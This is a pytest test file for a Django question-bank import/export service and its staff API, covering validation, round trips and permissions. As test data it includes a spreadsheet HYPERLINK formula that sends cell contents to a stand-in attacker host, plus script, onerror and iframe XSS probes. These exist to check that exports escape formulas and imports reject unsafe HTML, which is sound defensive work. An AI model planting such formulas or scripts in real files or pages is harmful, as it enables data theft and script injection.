"""Question import and export: the service (all or nothing, every bad row reported, dry
run, round trip) and the staff API over it."""

from __future__ import annotations

import csv
import io
import json
import re
from decimal import Decimal

import pytest
from django.contrib.auth.models import Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from rest_framework.test import APIClient

from testengine.errors import ImportRejected
from testengine.importexport import (
    COLUMNS,
    MAX_ROWS,
    join_cell,
    questions_export,
    questions_import,
    split_cell,
)
from testengine.models import Choice, Question
from tests.accounts.factories import StaffFactory
from tests.testengine.factories import TopicFactory, make_question

pytestmark = pytest.mark.django_db

IMPORT = "/api/v1/testengine/questions/import/"
EXPORT = "/api/v1/testengine/questions/export/"

SINGLE = {
    "external_id": "q-1",
    "topic": "algebra",
    "type": "single",
    "body": "What is *2 + 2*?",
    "explanation": "Add them.",
    "difficulty": "easy",
    "status": "published",
    "tags": "Arithmetic|Warm Up",
    "marks": "4",
    "negative_marks": "1",
    "choices": "3|4|5",
    "correct": "2",
}
MULTIPLE = {
    "topic": "algebra",
    "type": "multiple",
    "body": "Which are even?",
    "choices": "2|3|4",
    "correct": "1|3",
}
TRUE_FALSE = {
    "topic": "algebra",
    "type": "true_false",
    "body": "0 is even.",
    "choices": "True|False",
    "correct": "1",
}
NUMERIC = {
    "external_id": "q-4",
    "topic": "geometry",
    "type": "numeric",
    "body": "Angles of a triangle add up to?",
    "numeric_answer": "180",
    "numeric_tolerance": "0.5",
    "difficulty": "hard",
}
TEXT = {
    "topic": "geometry",
    "type": "text",
    "body": "Name a polygon with 3 sides.",
    "accepted_answers": "triangle|trigon",
    "status": "retired",
}


@pytest.fixture
def topics():
    return {slug: TopicFactory(slug=slug, name=slug.title()) for slug in ("algebra", "geometry")}


def _csv(*rows: dict, header=COLUMNS) -> bytes:
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=header)
    writer.writeheader()
    writer.writerows(rows)
    return buffer.getvalue().encode()


def _rejected(content, fmt="csv", **kwargs) -> list[dict]:
    """The row errors of a refused import, after checking that nothing was written."""
    before = (Question.objects.count(), Choice.objects.count())
    with pytest.raises(ImportRejected) as caught:
        questions_import(content=content, fmt=fmt, **kwargs)
    assert (Question.objects.count(), Choice.objects.count()) == before
    assert caught.value.code == "import_rejected"
    assert set(caught.value.fields) == {"rows"}
    return caught.value.fields["rows"]


def _snapshot(question: Question) -> tuple:
    return (
        question.external_id,
        question.topic.slug,
        question.type,
        question.body_md,
        question.body_html,
        question.explanation_md,
        question.explanation_html,
        question.difficulty,
        question.status,
        question.tags,
        question.marks,
        question.negative_marks,
        question.numeric_answer,
        question.numeric_tolerance,
        question.tolerance_kind,
        question.accepted_answers,
        (question.irt_a, question.irt_b, question.irt_c),
        [(c.body_md, c.body_html, c.is_correct, c.order) for c in question.choices.all()],
    )


def _bank_snapshot() -> list[tuple]:
    return [_snapshot(q) for q in Question.objects.order_by("pk").prefetch_related("choices")]


# --- happy paths ---------------------------------------------------------------------------


def test_a_csv_file_imports_every_type_as_question_create_would_save_it(topics):
    staff = StaffFactory()

    report = questions_import(
        content=_csv(SINGLE, MULTIPLE, TRUE_FALSE, NUMERIC, TEXT), fmt="csv", by=staff
    )

    assert (report.created, report.errors, report.dry_run) == (5, [], False)
    single, multiple, true_false, numeric, text = Question.objects.order_by("pk")
    assert _snapshot(single) == (
        "q-1",
        "algebra",
        "single",
        "What is *2 + 2*?",
        "<p>What is <em>2 + 2</em>?</p>",
        "Add them.",
        "<p>Add them.</p>",
        "easy",
        "published",
        ["arithmetic", "warm-up"],
        Decimal("4.00"),
        Decimal("1.00"),
        None,
        Decimal("0"),
        "absolute",
        [],
        (1.0, -1.0, 0.3333),
        [("3", "<p>3</p>", False, 0), ("4", "<p>4</p>", True, 1), ("5", "<p>5</p>", False, 2)],
    )
    assert single.created_by == staff
    assert single.published_at is not None
    assert [(c.body_md, c.is_correct) for c in multiple.choices.all()] == [
        ("2", True),
        ("3", False),
        ("4", True),
    ]
    assert (multiple.status, multiple.difficulty, multiple.marks) == ("draft", "medium", 1)
    assert multiple.published_at is None
    assert multiple.external_id is None
    assert [(c.body_md, c.is_correct) for c in true_false.choices.all()] == [
        ("True", True),
        ("False", False),
    ]
    assert (numeric.numeric_answer, numeric.numeric_tolerance, numeric.irt_b) == (
        Decimal("180"),
        Decimal("0.5"),
        1.0,
    )
    assert (text.accepted_answers, text.status, text.topic) == (
        ["triangle", "trigon"],
        "retired",
        topics["geometry"],
    )


def test_a_json_file_imports_with_the_same_result_as_the_csv_file(topics):
    items = [
        {
            "external_id": "q-1",
            "topic": "algebra",
            "type": "single",
            "body": "What is *2 + 2*?",
            "explanation": "Add them.",
            "difficulty": "easy",
            "status": "published",
            "tags": ["Arithmetic", "Warm Up"],
            "marks": 4,
            "negative_marks": "1",
            "choices": [
                {"text": "3", "correct": False},
                {"text": "4", "correct": True},
                {"text": "5"},
            ],
        },
        {
            "external_id": 42,
            "topic": "geometry",
            "type": "numeric",
            "body": "Angles of a triangle add up to?",
            "numeric_answer": 180,
            "numeric_tolerance": 0.5,
            "difficulty": "hard",
            "explanation": None,
        },
    ]

    report = questions_import(content=json.dumps(items).encode(), fmt="json")

    assert (report.created, report.dry_run) == (2, False)
    from_json = _bank_snapshot()
    Question.objects.all().delete()
    questions_import(content=_csv(SINGLE, {**NUMERIC, "external_id": "42"}), fmt="csv")
    assert _bank_snapshot() == from_json


def test_a_dry_run_checks_everything_and_writes_nothing(topics):
    make_question(topic=topics["algebra"])

    report = questions_import(content=_csv(SINGLE, MULTIPLE, TEXT), fmt="csv", dry_run=True)

    assert (report.created, report.errors, report.dry_run) == (3, [], True)
    assert Question.objects.count() == 1
    assert Choice.objects.count() == 4


def test_a_dry_run_of_a_bad_file_is_refused_like_the_real_import(topics):
    rows = _rejected(_csv({**SINGLE, "topic": "nope"}), dry_run=True)

    assert rows == [{"row": 2, "field": "topic", "message": "Unknown topic 'nope'."}]


def test_spreadsheet_quirks_are_accepted(topics):
    # A byte-order mark, header names in another case with spaces, CRLF, blank lines.
    content = (
        "\ufeffTopic , TYPE,body,choices,correct\r\n"
        "algebra,single,One?,a|b,1\r\n"
        "\r\n"
        ",,,,\r\n"
        "algebra,true_false,Two?,True|False,2\r\n"
    ).encode()

    report = questions_import(content=content, fmt="csv")

    assert report.created == 2
    assert sorted(Question.objects.values_list("body_md", flat=True)) == ["One?", "Two?"]


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_export_then_import_into_an_empty_bank_gives_the_same_questions(topics, fmt):
    algebra, geometry = topics["algebra"], topics["geometry"]
    make_question(
        topic=algebra,
        body="Pipes | and \\ backslashes, *Markdown* and हिन्दी",
        choices=[("a | b", True), ("c \\ d", False), ("\\|x\\|", False)],
        tags=("set-1", "pipes"),
        external_id="ext-1",
        marks=Decimal("2.5"),
        negative_marks=Decimal("0.83"),
        explanation_md="Because.\n\nSecond paragraph, with a [link](https://example.com).",
    )
    make_question(topic=algebra, type=Question.Type.MULTIPLE, status=Question.Status.DRAFT)
    make_question(topic=geometry, type=Question.Type.TRUE_FALSE, difficulty="hard")
    make_question(
        topic=geometry,
        type=Question.Type.NUMERIC,
        numeric_answer=Decimal("-3.141593"),
        numeric_tolerance=Decimal("0.01"),
        tolerance_kind=Question.Tolerance.RELATIVE,
        status=Question.Status.RETIRED,
    )
    make_question(topic=geometry, type=Question.Type.TEXT, accepted_answers=("a|b", "c"))
    before = _bank_snapshot()

    exported = questions_export(queryset=Question.objects.all(), fmt=fmt)
    Question.objects.all().delete()
    report = questions_import(content=exported.encode(), fmt=fmt)

    assert report.created == 5
    assert _bank_snapshot() == before
    assert questions_export(queryset=Question.objects.all(), fmt=fmt) == exported


def test_the_csv_export_has_the_documented_columns_and_cells(topics):
    make_question(
        topic=topics["algebra"],
        body="Pick the even ones",
        type=Question.Type.MULTIPLE,
        choices=[("2", True), ("3", False), ("4", True)],
        tags=("even",),
        external_id="e-1",
    )

    exported = questions_export(queryset=Question.objects.all(), fmt="csv")

    assert exported == (
        ",".join(COLUMNS) + "\r\n"
        "e-1,algebra,multiple,Pick the even ones,,medium,published,even,1,0,2|3|4,1|3,,0,"
        "absolute,\r\n"
    )


FORMULA_TEXTS = [
    '=HYPERLINK("https://evil.example/?d="&A1, "Click")',
    "@SUM(A1:A9)",
    "+1+2",
    "-2+3",
    "\tTabbed",
    "\rReturned",
    "'=already quoted",
    "''=twice",
    "'plain quote",
    "''",
]


def test_the_csv_export_neutralises_formula_cells(topics):
    make_question(
        topic=topics["algebra"],
        body='=HYPERLINK("https://evil.example", "x")',
        explanation_md="@SUM(A1:A9)",
        choices=[("-2+3", True), ("+1", False)],
        tags=("=cmd",),
        external_id="@id",
    )

    exported = questions_export(queryset=Question.objects.all(), fmt="csv")

    row = dict(zip(COLUMNS, list(csv.reader(io.StringIO(exported)))[1], strict=True))
    assert row["external_id"] == "'@id"
    assert row["body"] == '\'=HYPERLINK("https://evil.example", "x")'
    assert row["explanation"] == "'@SUM(A1:A9)"
    assert row["choices"] == "'-2+3|+1"
    assert row["tags"] == "'=cmd"
    formula_starts = ("=", "+", "-", "@", "\t", "\r")
    assert not [cell for cell in row.values() if cell[:1] in formula_starts]


def test_formula_cells_round_trip_losslessly(topics):
    for number, text in enumerate(FORMULA_TEXTS):
        make_question(
            topic=topics["algebra"],
            body=text or "x",
            explanation_md=text,
            choices=[(text or "x", True), ("other", False)],
            tags=(text,) if text.strip() else (),
            external_id=f"f-{number}",
        )
    before = _bank_snapshot()

    exported = questions_export(queryset=Question.objects.all(), fmt="csv")
    Question.objects.all().delete()
    questions_import(content=exported.encode(), fmt="csv")

    assert _bank_snapshot() == before
    assert questions_export(queryset=Question.objects.all(), fmt="csv") == exported


def test_the_api_csv_export_neutralises_formula_cells(topics):
    make_question(topic=topics["algebra"], body="=1+1", external_id="q-f")

    response = _staff_with("view_question").get(EXPORT, {"format": "csv"})

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1][COLUMNS.index("body")] == "'=1+1"


def test_the_json_export_has_the_documented_keys(topics):
    make_question(
        topic=topics["geometry"],
        type=Question.Type.NUMERIC,
        body="Sum of angles?",
        numeric_answer=Decimal("180"),
    )

    exported = json.loads(questions_export(queryset=Question.objects.all(), fmt="json"))

    assert exported == [
        {
            "external_id": None,
            "topic": "geometry",
            "type": "numeric",
            "body": "Sum of angles?",
            "explanation": "",
            "difficulty": "medium",
            "status": "published",
            "tags": [],
            "marks": "1",
            "negative_marks": "0",
            "choices": [],
            "numeric_answer": "180",
            "numeric_tolerance": "0",
            "tolerance_kind": "absolute",
            "accepted_answers": [],
        }
    ]


def test_the_export_takes_a_fixed_number_of_queries(topics, django_assert_num_queries):
    for _ in range(5):
        make_question(topic=topics["algebra"])

    # questions with their topics, then their choices
    with django_assert_num_queries(2):
        questions_export(queryset=Question.objects.all(), fmt="csv")


def test_the_import_takes_a_fixed_number_of_queries(topics, django_assert_num_queries):
    content = _csv(*({**SINGLE, "external_id": f"q-{n}"} for n in range(30)))

    # topics, existing external ids, savepoint, questions, choices, bank version bump,
    # savepoint release
    with django_assert_num_queries(7):
        questions_import(content=content, fmt="csv")


@pytest.mark.parametrize(
    ("texts", "cell"),
    [
        (["a", "b"], "a|b"),
        (["a|b", "c"], "a\\|b|c"),
        (["back\\slash"], "back\\\\slash"),
        (["\\|"], "\\\\\\|"),
        ([""], ""),
    ],
)
def test_cells_join_and_split_back(texts, cell):
    assert join_cell(texts) == cell
    assert split_cell(cell) == (texts if cell else [])


def test_a_backslash_before_another_character_is_kept_as_written():
    assert split_cell("\\*not emphasis\\*|b") == ["\\*not emphasis\\*", "b"]


def test_tex_is_imported_as_written_and_rendered_to_mathml(topics):
    body = "A car goes from rest to $v = 20\\ \\mathrm{m\\,s^{-1}}$ in $t = 4$ s. Find $a$."
    explanation = "$$a = \\frac{v - u}{t} = \\frac{20}{4} = 5$$\n\nPrices like $5 stay text."
    content = _csv(
        {**SINGLE, "body": body, "explanation": explanation, "choices": "$5$|$H_2O$|$x^2$"}
    )

    questions_import(content=content, fmt="csv")

    question = Question.objects.get()
    assert question.body_md == body
    assert question.explanation_md == explanation
    assert question.body_html.count("<math ") == 3
    assert '<math xmlns="http://www.w3.org/1998/Math/MathML" display="block">' in (
        question.explanation_html
    )
    assert "Prices like $5 stay text." in question.explanation_html
    choices = list(question.choices.order_by("order"))
    assert [c.body_md for c in choices] == ["$5$", "$H_2O$", "$x^2$"]
    assert all(c.body_html.startswith("<p><math ") for c in choices)


# --- bad input: every row reported, nothing written ------------------------------------------


def test_every_bad_row_is_reported_and_nothing_is_written(topics):
    make_question(topic=topics["algebra"])
    content = _csv(
        SINGLE,
        {**MULTIPLE, "topic": "calculus"},
        TRUE_FALSE,
        {**TEXT, "type": "essay"},
        NUMERIC,
    )

    rows = _rejected(content)

    assert rows == [
        {"row": 3, "field": "topic", "message": "Unknown topic 'calculus'."},
        {
            "row": 5,
            "field": "type",
            "message": "Choose one of: single, multiple, true_false, numeric, text.",
        },
    ]


@pytest.mark.parametrize(
    ("changes", "field", "message"),
    [
        ({"topic": "nope"}, "topic", "Unknown topic 'nope'."),
        ({"topic": ""}, "topic", "Give the topic's slug."),
        ({"type": "essay"}, "type", "Choose one of: single, multiple, true_false, numeric, text."),
        ({"difficulty": "brutal"}, "difficulty", "Choose one of: easy, medium, hard."),
        ({"status": "live"}, "status", "Choose one of: draft, published, retired."),
        ({"marks": "four"}, "marks", "Enter a number."),
        ({"marks": "-1"}, "marks", "Marks cannot be negative."),
        ({"marks": "1.234"}, "marks", "Ensure that there are no more than 2 decimal places."),
        (
            {"marks": "100000"},
            "marks",
            "Ensure that there are no more than 4 digits before the decimal point.",
        ),
        ({"negative_marks": "1,5"}, "negative_marks", "Enter a number."),
        ({"numeric_tolerance": "NaN"}, "numeric_tolerance", "Enter a finite number."),
        ({"body": ""}, "body", "The question needs a text."),
        (
            {"body": "Hi <script>alert(1)</script>"},
            "body",
            "Remove the HTML that could run code ('<script'); use Markdown.",
        ),
        (
            {"explanation": '<img src=x onerror="alert(1)">'},
            "explanation",
            "Remove the HTML that could run code ('onerror='); use Markdown.",
        ),
        (
            {"choices": "3|<iframe src=x>|5"},
            "choices",
            "Remove the HTML that could run code from the choices.",
        ),
        (
            {"body": "Speed is\n$v = \\fracc{d}{t}$"},
            "body",
            "Line 2, column 6: unknown command \\fracc.",
        ),
        (
            {"explanation": "$$x^$$"},
            "explanation",
            "Line 1, column 3: ^ or _ needs something after it.",
        ),
        (
            {"choices": "3|$\\sqrt{4$|5"},
            "choices",
            "Choice 2: Line 1, column 7: this { is not closed.",
        ),
        (
            {"correct": "1|2"},
            "choices",
            "A single-choice question has exactly one correct choice (2 marked).",
        ),
        ({"correct": "4"}, "correct", "There is no choice 4: the row has 3 choices."),
        ({"correct": "0"}, "correct", "There is no choice 0: the row has 3 choices."),
        (
            {"correct": "two"},
            "correct",
            "Give the numbers of the correct choices, e.g. 2 or 1|3 (not 'two').",
        ),
        ({"choices": "3|4|4 "}, "choices", "Two choices have the same text."),
        (
            {"numeric_answer": "4"},
            "numeric_answer",
            "Only numeric questions have a numeric answer.",
        ),
        (
            {"accepted_answers": "four"},
            "accepted_answers",
            "Only short-text questions have accepted answers.",
        ),
        ({"tags": "x" * 51}, "tags", "Tags are at most 50 characters."),
        ({"external_id": "x" * 65}, "external_id", "External ids are at most 64 characters."),
        ({"body": "nul\x00byte"}, "body", "Remove the NUL character."),
    ],
)
def test_a_bad_value_is_reported_with_its_row_and_column(topics, changes, field, message):
    rows = _rejected(_csv(MULTIPLE, {**SINGLE, **changes}))

    assert rows == [{"row": 3, "field": field, "message": message}]


def test_question_rules_are_those_of_question_validate(topics):
    content = _csv(
        {**NUMERIC, "numeric_answer": ""},
        {**TEXT, "accepted_answers": ""},
        {**TRUE_FALSE, "choices": "True|False|Maybe", "correct": ""},
        {**MULTIPLE, "correct": ""},
        {**NUMERIC, "external_id": "", "tolerance_kind": "relative", "numeric_tolerance": "2"},
    )

    rows = _rejected(content)

    assert rows == [
        {"row": 2, "field": "numeric_answer", "message": "A numeric question needs its answer."},
        {
            "row": 3,
            "field": "accepted_answers",
            "message": "A short-text question needs at least one accepted answer.",
        },
        {
            "row": 4,
            "field": "choices",
            "message": "A true/false question has exactly two choices.",
        },
        {"row": 4, "field": "choices", "message": "Mark exactly one of the two choices correct."},
        {"row": 5, "field": "choices", "message": "Mark at least one choice correct."},
        {
            "row": 6,
            "field": "numeric_tolerance",
            "message": "A relative tolerance is a fraction below 1 (0.01 = 1%).",
        },
    ]


def test_all_problems_of_one_row_are_reported_in_column_order(topics):
    rows = _rejected(
        _csv({**SINGLE, "status": "live", "topic": "nope", "marks": "x", "correct": "9"})
    )

    assert rows == [
        {"row": 2, "field": "topic", "message": "Unknown topic 'nope'."},
        {"row": 2, "field": "status", "message": "Choose one of: draft, published, retired."},
        {"row": 2, "field": "marks", "message": "Enter a number."},
        {"row": 2, "field": "correct", "message": "There is no choice 9: the row has 3 choices."},
    ]


def test_an_unknown_type_does_not_also_blame_its_choices_or_answers(topics):
    rows = _rejected(_csv({**SINGLE, "type": "mcq"}))

    assert rows == [
        {
            "row": 2,
            "field": "type",
            "message": "Choose one of: single, multiple, true_false, numeric, text.",
        }
    ]


def test_external_ids_repeated_in_the_file_or_already_in_the_bank_are_refused(topics):
    make_question(topic=topics["algebra"], external_id="taken")

    rows = _rejected(
        _csv(
            {**SINGLE, "external_id": "dup"},
            {**MULTIPLE, "external_id": "taken"},
            {**TEXT, "external_id": " dup "},
            {**TRUE_FALSE, "external_id": "dup", "topic": "nope"},
        )
    )

    assert rows == [
        {
            "row": 3,
            "field": "external_id",
            "message": "A question with external id 'taken' is already in the bank.",
        },
        {"row": 4, "field": "external_id", "message": "Row 2 has the same external id."},
        {"row": 5, "field": "external_id", "message": "Row 2 has the same external id."},
        {"row": 5, "field": "topic", "message": "Unknown topic 'nope'."},
    ]


def test_missing_unknown_and_repeated_columns_are_header_errors_on_row_1(topics):
    header = ["topic", "type", "choices", "choices", "dificulty"]

    rows = _rejected(_csv({"topic": "algebra"}, header=header))

    columns = ", ".join(COLUMNS)
    assert rows == [
        {"row": 1, "field": "body", "message": "This column is required."},
        {"row": 1, "field": "choices", "message": "This column appears twice."},
        {"row": 1, "field": "dificulty", "message": f"Unknown column; the columns are {columns}."},
    ]


def test_a_row_with_the_wrong_number_of_cells_is_reported(topics):
    content = _csv(SINGLE) + b"algebra,single\n"

    rows = _rejected(content)

    assert rows == [
        {"row": 3, "field": "row", "message": "This row has 2 cells; the header has 16 columns."}
    ]


@pytest.mark.parametrize(
    ("content", "fmt", "row", "field", "message"),
    [
        (b"", "csv", 0, "file", "The file is empty."),
        (b" \n\n", "json", 0, "file", "The file is empty."),
        (
            "topic,type,body\nalgebra,single,caf\u00e9\n".encode("latin-1"),
            "csv",
            0,
            "file",
            "The file is not UTF-8 text (byte 35 cannot be read). "
            "Save it as UTF-8 (in a spreadsheet: “CSV UTF-8”).",
        ),
        (b"topic,type,body\n", "csv", 0, "file", "The file has no questions, only a header."),
        (
            b'[{"topic": "algebra",}]',
            "json",
            0,
            "file",
            "The file is not valid JSON: Expecting property name enclosed in double quotes: "
            "line 1 column 22 (char 21).",
        ),
        (b'{"topic": "algebra"}', "json", 0, "file", "The file must be a JSON list of questions."),
        (b"[]", "json", 0, "file", "The file has no questions."),
        (b"topic,type,body\n", "xml", 0, "format", "Choose the format: csv or json."),
    ],
)
def test_an_unreadable_file_is_one_error_on_row_0(topics, content, fmt, row, field, message):
    assert _rejected(content, fmt) == [{"row": row, "field": field, "message": message}]


def test_more_than_the_row_limit_is_refused_before_checking_rows(topics):
    content = "topic,type,body\n" + "algebra,single,Q\n" * (MAX_ROWS + 1)

    rows = _rejected(content.encode())

    assert rows == [
        {"row": 0, "field": "file", "message": "The file has more than 20000 questions; split it."}
    ]


def test_json_rows_are_numbered_from_1_and_type_errors_are_reported(topics):
    good = {"topic": "algebra", "type": "true_false", "body": "Yes?"}
    items = [
        {**good, "choices": [{"text": "Yes", "correct": True}, {"text": "No"}]},
        "not an object",
        {**good, "tags": "a|b", "marks": True, "colour": "red", "body": 7},
        {**good, "choices": [{"text": "Yes", "correct": "yes"}]},
        {**good, "choices": "Yes|No"},
    ]

    rows = _rejected(json.dumps(items).encode(), "json")

    assert rows == [
        {"row": 2, "field": "row", "message": "Each question is a JSON object."},
        {"row": 3, "field": "body", "message": "Enter a text."},
        {"row": 3, "field": "tags", "message": "Give a list of texts."},
        {"row": 3, "field": "marks", "message": "Enter a number."},
        {
            "row": 3,
            "field": "choices",
            "message": "A true/false question has exactly two choices.",
        },
        {
            "row": 3,
            "field": "choices",
            "message": "Mark exactly one of the two choices correct.",
        },
        {"row": 3, "field": "colour", "message": "Unknown field."},
        {
            "row": 4,
            "field": "choices",
            "message": 'Choice 1: give {"text": "…", "correct": true or false} and nothing else.',
        },
        {
            "row": 5,
            "field": "choices",
            "message": 'Give a list of {"text", "correct"} objects.',
        },
    ]


def test_the_rejection_says_how_many_errors_in_how_many_rows(topics):
    with pytest.raises(ImportRejected) as caught:
        questions_import(
            content=_csv({**SINGLE, "topic": "x", "marks": "y"}, {**TEXT, "topic": "z"}),
            fmt="csv",
        )

    assert caught.value.detail == "The file has 3 errors in 2 rows; nothing was imported."
    assert caught.value.status == 400


def test_an_external_id_taken_between_check_and_insert_rejects_the_whole_import(
    topics, monkeypatch
):
    # Another import saved "q-1" after this one looked: the unique constraint decides.
    make_question(topic=topics["algebra"], external_id="q-1")
    monkeypatch.setattr("testengine.importexport._existing_external_ids", lambda ids: iter(()))

    rows = _rejected(_csv(MULTIPLE, SINGLE))

    assert rows == [
        {
            "row": 0,
            "field": "file",
            "message": "The bank changed while importing (an external id was taken or a "
            "topic was deleted); nothing was imported. Try again.",
        }
    ]


# --- API: import ---------------------------------------------------------------------------


def _upload(content: bytes, name: str = "questions.csv") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


def test_staff_import_a_csv_file(staff_client, topics):
    response = staff_client.post(
        IMPORT, {"file": _upload(_csv(SINGLE, NUMERIC))}, format="multipart"
    )

    assert response.status_code == 201
    assert response.json() == {"created": 2, "dry_run": False}
    assert list(Question.objects.values_list("external_id", "created_by")) == [
        ("q-4", staff_client.user.pk),
        ("q-1", staff_client.user.pk),
    ]


def test_the_format_field_wins_over_the_file_name(staff_client, topics):
    items = [{"topic": "algebra", "type": "text", "body": "Q", "accepted_answers": ["a"]}]

    response = staff_client.post(
        IMPORT,
        {"file": _upload(json.dumps(items).encode(), "export.txt"), "format": "json"},
        format="multipart",
    )

    assert response.status_code == 201
    assert response.json() == {"created": 1, "dry_run": False}


def test_a_file_whose_format_cannot_be_told_is_refused(staff_client, topics):
    response = staff_client.post(
        IMPORT, {"file": _upload(_csv(SINGLE), "questions.txt")}, format="multipart"
    )

    assert response.status_code == 400
    assert response.json() == {
        "code": "invalid",
        "detail": "Some fields are not valid.",
        "fields": {"format": ["Give the format (csv or json): the file name does not tell."]},
    }
    assert Question.objects.count() == 0


def test_an_api_dry_run_answers_200_and_writes_nothing(staff_client, topics):
    response = staff_client.post(
        IMPORT, {"file": _upload(_csv(SINGLE, TEXT)), "dry_run": "true"}, format="multipart"
    )

    assert response.status_code == 200
    assert response.json() == {"created": 2, "dry_run": True}
    assert Question.objects.count() == 0


def test_questions_can_be_sent_as_a_json_body(staff_client, topics):
    body = {
        "format": "json",
        "questions": [
            {"topic": "algebra", "type": "text", "body": "Q1", "accepted_answers": ["a"]},
            {"topic": "geometry", "type": "numeric", "body": "Q2", "numeric_answer": 2.5},
        ],
    }

    response = staff_client.post(IMPORT, body, format="json")

    assert response.status_code == 201
    assert response.json() == {"created": 2, "dry_run": False}
    assert sorted(Question.objects.values_list("body_md", "numeric_answer")) == [
        ("Q1", None),
        ("Q2", Decimal("2.5")),
    ]


def test_a_bad_file_answers_400_with_every_bad_row_and_writes_nothing(staff_client, topics):
    content = _csv(SINGLE, {**MULTIPLE, "topic": "nope"}, {**TEXT, "marks": "x"})

    response = staff_client.post(IMPORT, {"file": _upload(content)}, format="multipart")

    assert response.status_code == 400
    assert response.json() == {
        "code": "import_rejected",
        "detail": "The file has 2 errors in 2 rows; nothing was imported.",
        "fields": {
            "rows": [
                {"row": 3, "field": "topic", "message": "Unknown topic 'nope'."},
                {"row": 4, "field": "marks", "message": "Enter a number."},
            ]
        },
    }
    assert Question.objects.count() == 0


def test_a_json_body_with_bad_rows_reports_them_by_position(staff_client, topics):
    body = {
        "questions": [
            {"topic": "algebra", "type": "text", "body": "Q1", "accepted_answers": ["a"]},
            {"topic": "algebra", "type": "single", "body": "Q2"},
        ]
    }

    response = staff_client.post(IMPORT, body, format="json")

    assert response.status_code == 400
    assert response.json()["fields"] == {
        "rows": [
            {"row": 2, "field": "choices", "message": "Give at least two choices."},
            {
                "row": 2,
                "field": "choices",
                "message": "A single-choice question has exactly one correct choice (0 marked).",
            },
        ]
    }
    assert response.json()["code"] == "import_rejected"
    assert Question.objects.count() == 0


def test_a_json_body_must_carry_a_list_of_questions(staff_client, topics):
    response = staff_client.post(IMPORT, {"questions": {"topic": "x"}}, format="json")

    assert response.status_code == 400
    assert response.json()["fields"] == {
        "questions": ['Expected a list of items but got type "dict".']
    }


def _staff_with(*codenames: str) -> APIClient:
    user = StaffFactory()
    user.user_permissions.set(
        Permission.objects.filter(content_type__app_label="testengine", codename__in=codenames)
    )
    client = APIClient()
    client.force_authenticate(user)
    return client


def test_importing_needs_the_add_question_permission(topics):
    client = _staff_with("view_question", "change_question")

    response = client.post(IMPORT, {"file": _upload(_csv(SINGLE))}, format="multipart")

    assert response.status_code == 403
    assert response.json() == {
        "code": "permission_denied",
        "detail": "You do not have permission to perform this action.",
    }
    assert Question.objects.count() == 0


def test_exporting_needs_the_view_question_permission(topics):
    make_question(topic=topics["algebra"])

    refused = _staff_with("add_question").get(EXPORT)
    allowed = _staff_with("view_question").get(EXPORT)

    assert refused.status_code == 403
    assert refused.json()["code"] == "permission_denied"
    assert allowed.status_code == 200


@pytest.mark.parametrize(("method", "url"), [("post", IMPORT), ("get", EXPORT)])
def test_learners_and_staff_without_permissions_get_403(
    learner_client, bare_staff_client, topics, method, url
):
    for client in (learner_client, bare_staff_client):
        response = getattr(client, method)(url, {"file": _upload(_csv(SINGLE))}, format="multipart")
        assert response.status_code == 403
        assert response.json() == {
            "code": "permission_denied",
            "detail": "You do not have permission to perform this action.",
        }
    assert Question.objects.count() == 0


@pytest.mark.parametrize(("method", "url"), [("post", IMPORT), ("get", EXPORT)])
def test_anonymous_callers_get_401(api_client, topics, method, url):
    response = getattr(api_client, method)(url)

    assert response.status_code == 401
    assert response.json() == {
        "code": "not_authenticated",
        "detail": "Authentication credentials were not provided.",
    }


# --- API: export ---------------------------------------------------------------------------

FILENAME = re.compile(r'^attachment; filename="questions-\d{8}-\d{6}\.(csv|json)"$')


def test_staff_download_the_bank_as_csv_by_default(staff_client, topics):
    make_question(topic=topics["algebra"])
    make_question(topic=topics["geometry"], type=Question.Type.TEXT)

    response = staff_client.get(EXPORT)

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert FILENAME.match(response["Content-Disposition"]).group(1) == "csv"
    assert response.content.decode() == questions_export(queryset=Question.objects.all(), fmt="csv")


def test_staff_download_json_with_format_json(staff_client, topics):
    make_question(topic=topics["algebra"], body="Only one")

    response = staff_client.get(EXPORT, {"format": "json"})

    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    assert FILENAME.match(response["Content-Disposition"]).group(1) == "json"
    assert [item["body"] for item in json.loads(response.content)] == ["Only one"]


def test_export_filters_combine_and_a_topic_includes_its_subtopics(staff_client, topics):
    algebra = topics["algebra"]
    linear = TopicFactory(slug="linear", parent=algebra)
    make_question(topic=algebra, body="A1", tags=("core",))
    make_question(topic=linear, body="L1", tags=("core",))
    make_question(topic=linear, body="L2 draft", tags=("core",), status="draft")
    make_question(topic=linear, body="L3 hard", tags=("core",), difficulty="hard")
    make_question(topic=linear, body="L4 untagged")
    make_question(topic=topics["geometry"], body="G1", tags=("core",))

    def bodies(**params) -> list[str]:
        response = staff_client.get(EXPORT, {"format": "json", **params})
        assert response.status_code == 200
        return [item["body"] for item in json.loads(response.content)]

    assert bodies(topic="algebra", status="published", difficulty="medium", tag="Core") == [
        "A1",
        "L1",
    ]
    assert bodies(topic="linear") == ["L1", "L2 draft", "L3 hard", "L4 untagged"]
    assert bodies(status="draft") == ["L2 draft"]
    assert bodies(difficulty="hard") == ["L3 hard"]


@pytest.mark.parametrize(
    ("params", "fields"),
    [
        ({"format": "xml"}, {"format": ['"xml" is not a valid choice.']}),
        ({"topic": "nope"}, {"topic": ["Unknown topic 'nope'."]}),
        ({"status": "live"}, {"status": ['"live" is not a valid choice.']}),
    ],
)
def test_bad_export_parameters_are_400(staff_client, topics, params, fields):
    response = staff_client.get(EXPORT, params)

    assert response.status_code == 400
    assert response.json()["code"] == "invalid"
    assert response.json()["fields"] == fields


def test_an_api_export_imports_back_through_the_api(staff_client, topics):
    make_question(topic=topics["algebra"], external_id="x-1", tags=("a", "b"))
    make_question(topic=topics["geometry"], type=Question.Type.NUMERIC)
    before = _bank_snapshot()
    exported = staff_client.get(EXPORT).content
    Question.objects.all().delete()

    response = staff_client.post(
        IMPORT, {"file": _upload(exported, "questions.csv")}, format="multipart"
    )

    assert response.status_code == 201
    assert _bank_snapshot() == before


@pytest.mark.parametrize("cell", ["²", "1" * 5000, "1|٣"])
def test_odd_digits_in_correct_are_a_row_error_not_a_crash(topics, cell):
    errors = _rejected(_csv({**SINGLE, "correct": cell}))

